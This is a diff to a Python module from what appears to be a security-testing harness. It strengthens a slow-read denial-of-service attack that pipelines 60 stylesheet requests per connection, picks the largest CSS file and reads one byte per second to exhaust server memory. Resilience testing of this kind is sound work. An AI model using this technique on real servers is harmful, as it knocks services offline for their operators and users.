@@ -8,13 +8,13 @@ from siege import sockets
 from siege.target import Target
 
 _COUNT = 500
-_ASKED_EACH = 20
+_ASKED_EACH = 60
 _SECONDS = 60
 _MOST_BYTES = 300 * 1024 * 1024  # of memory more than before
 
 
 def attack(target: Target) -> list[str]:
-    """Ask for the office's style sheet twenty times on each connection, and read a byte a second."""
+    """Ask for the office's style sheet sixty times on each connection, and read a byte a second."""
     path = _style_sheet(target)
     asked = f"GET {path} HTTP/1.1\r\nHost: {target.address[0]}:{target.address[1]}\r\n\r\n".encode()
     before = target.memory()
@@ -30,7 +30,7 @@ def attack(target: Target) -> list[str]:
 
 
 def _style_sheet(target: Target) -> str:
+    """Return the longest, so that an answer is more than the system keeps for a connection."""
     page = httpx.get(f"{target.url}/account/sign-in/", timeout=30).text
-    found = re.search(r'href="(/static/[^"]+\.css)"', page)
-    assert found
-    return found[1]
+    found = re.findall(r'href="(/static/[^"]+\.css)"', page)
+    return max(found, key=lambda path: len(httpx.get(f"{target.url}{path}", timeout=30).content))
